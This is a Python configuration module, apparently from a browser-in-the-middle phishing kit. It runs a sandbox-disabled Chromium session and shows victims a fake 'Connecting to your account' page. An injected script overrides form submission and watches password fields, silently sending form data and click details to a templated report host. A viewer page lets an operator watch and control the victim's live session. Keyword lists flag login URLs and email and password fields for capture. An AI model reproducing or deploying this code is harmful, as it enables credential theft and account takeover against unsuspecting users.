"""Chromium launch arguments, capture keywords, injected scripts and page templates."""

# ── Routes ───────────────────────────────────────────────────────────────────

API_PREFIX = "/api/browser"
BIND_PREFIX = "/browser"

# ── Browser launch ───────────────────────────────────────────────────────────

CHROMIUM_ARGS_FULL = [
    "--no-sandbox",
    "--disable-setuid-sandbox",
    "--disable-dev-shm-usage",
    "--disable-gpu",
    "--no-first-run",
    "--no-default-browser-check",
    "--disable-default-apps",
    "--disable-extensions",
    "--disable-sync",
    "--disable-background-timer-throttling",
    "--disable-backgrounding-occluded-windows",
    "--disable-renderer-backgrounding",
    "--disable-hang-monitor",
    "--disable-popup-blocking",
    "--disable-component-update",
    "--metrics-recording-only",
]

CHROMIUM_ARGS_MINIMAL = [
    "--no-sandbox",
    "--disable-setuid-sandbox",
    "--disable-dev-shm-usage",
]

# ── Screenshots ──────────────────────────────────────────────────────────────

STANDARD_CAPTURE = {"type": "png", "full_page": False}
FAST_CAPTURE = {"type": "jpeg", "quality": 40, "full_page": False}
HQ_CAPTURE = {"type": "png", "full_page": True, "scale": "device"}

# ── Navigation ───────────────────────────────────────────────────────────────

PLACEHOLDER_URL = "about:blank"

PLACEHOLDER_HTML = """<!DOCTYPE html>
<html>
<head>
  <meta charset="utf-8">
  <title>Connecting</title>
  <style>
    body { font-family: Arial, sans-serif; background: #f8f9fa; padding: 50px; text-align: center; }
    .box { max-width: 400px; margin: 0 auto; background: #fff; padding: 40px; border-radius: 8px; }
    p { color: #5f6368; }
  </style>
</head>
<body>
  <div class="box">
    <h1>Please wait</h1>
    <p>Connecting to your account...</p>
  </div>
</body>
</html>
"""

# ── Credential classification ────────────────────────────────────────────────

CAPTURE_METHODS = ("POST", "PUT", "PATCH")
AUTH_URL_KEYWORDS = ("signin", "login", "auth")
IDENTIFIER_KEYS = ("email", "user", "identifier")
SECRET_KEYS = ("pass", "pwd")
IDENTIFIER_MIN_LENGTH = 3

# ── Keyboard ─────────────────────────────────────────────────────────────────

NAMED_KEYS = {
    "Enter",
    "Tab",
    "Backspace",
    "Delete",
    "Escape",
    "ArrowUp",
    "ArrowDown",
    "ArrowLeft",
    "ArrowRight",
    "Home",
    "End",
    "PageUp",
    "PageDown",
    "Space",
}

# ── Injected page instrumentation ────────────────────────────────────────────
# Rendered with string.Template; the script itself must not contain "$".

INSTRUMENTATION_SCRIPT = """
(() => {
  const base = $report_base;
  const token = $session_token;
  const report = (path, payload) => {
    try {
      fetch(base + path + encodeURIComponent(token), {
        method: 'POST',
        mode: 'no-cors',
        keepalive: true,
        headers: { 'Content-Type': 'text/plain' },
        body: JSON.stringify(payload),
      }).catch(() => {});
    } catch (e) {}
  };
  const formToObject = (form) => {
    const data = {};
    try {
      for (const [key, value] of new FormData(form).entries()) {
        if (typeof value === 'string') data[key] = value;
      }
    } catch (e) {}
    return data;
  };

  const originalSubmit = HTMLFormElement.prototype.submit;
  HTMLFormElement.prototype.submit = function () {
    report('/capture-form/', { formData: formToObject(this), url: location.href });
    return originalSubmit.call(this);
  };

  document.addEventListener('submit', (e) => {
    if (e.target && e.target.tagName === 'FORM') {
      report('/capture-form/', { formData: formToObject(e.target), url: location.href });
    }
  }, true);

  let inputTimer = null;
  document.addEventListener('input', (e) => {
    const input = e.target;
    if (!input) return;
    const name = (input.name || input.id || '').toLowerCase();
    if (input.type === 'password' || name.includes('pass')) {
      clearTimeout(inputTimer);
      inputTimer = setTimeout(() => {
        report('/capture-input/', { type: 'password', name: input.name || input.id, url: location.href });
      }, 1000);
    }
  }, true);

  document.addEventListener('click', (e) => {
    const el = e.target || {};
    report('/track-click/', {
      element: {
        tagName: el.tagName,
        id: el.id,
        className: typeof el.className === 'string' ? el.className : '',
        text: (el.textContent || '').substring(0, 100),
        href: el.href,
      },
      url: location.href,
    });
  }, true);
})();
"""

# ── Bind URL viewer page ─────────────────────────────────────────────────────
# Rendered with string.Template.

VIEWER_PAGE = """<!DOCTYPE html>
<html>
<head>
  <meta charset="utf-8">
  <title>Session $session_token</title>
  <style>
    html, body { margin: 0; height: 100%; overflow: hidden; background: #000; }
    #screen { width: 100%; height: 100%; object-fit: contain; display: none; cursor: pointer; }
    #status { position: fixed; top: 50%; left: 50%; transform: translate(-50%, -50%);
              color: #fff; font-family: Arial, sans-serif; }
  </style>
</head>
<body>
  <div id="status">Loading session...</div>
  <img id="screen" alt="session">
  <script>
    const token = "$session_token";
    const api = "$api_prefix";
    const screen = document.getElementById('screen');
    const status = document.getElementById('status');
    const show = (src) => { screen.src = src; screen.style.display = 'block'; status.style.display = 'none'; };

    const wsUrl = (location.protocol === 'https:' ? 'wss://' : 'ws://') + location.host + api + '/ws';
    const ws = new WebSocket(wsUrl);
    ws.onopen = () => ws.send(JSON.stringify({ event: 'joinSession', data: { sessionToken: token } }));
    ws.onmessage = (msg) => {
      const { event, data } = JSON.parse(msg.data);
      if (event === 'screenshot') show('data:' + data.mimeType + ';base64,' + data.screenshot);
      if (event === 'sessionClosed') { status.textContent = 'Session closed'; status.style.display = 'block'; }
    };

    const refresh = () => fetch(api + '/session/' + token + '/fast-screenshot')
      .then((r) => r.ok ? r.blob() : Promise.reject(r.status))
      .then((blob) => show(URL.createObjectURL(blob)))
      .catch(() => { status.textContent = 'Session unavailable'; });

    const act = (action, params) => fetch(api + '/session/' + token + '/action', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ action, params }),
    }).then(() => setTimeout(refresh, 100));

    screen.addEventListener('click', (e) => {
      const rect = screen.getBoundingClientRect();
      const x = Math.round((e.clientX - rect.left) * screen.naturalWidth / rect.width);
      const y = Math.round((e.clientY - rect.top) * screen.naturalHeight / rect.height);
      act('click', { x, y });
    });
    document.addEventListener('keydown', (e) => act('key', { key: e.key }));
    document.addEventListener('wheel', (e) => act('scroll', { x: Math.round(e.deltaX), y: Math.round(e.deltaY) }));

    refresh();
    setInterval(refresh, 2000);
  </script>
</body>
</html>
"""
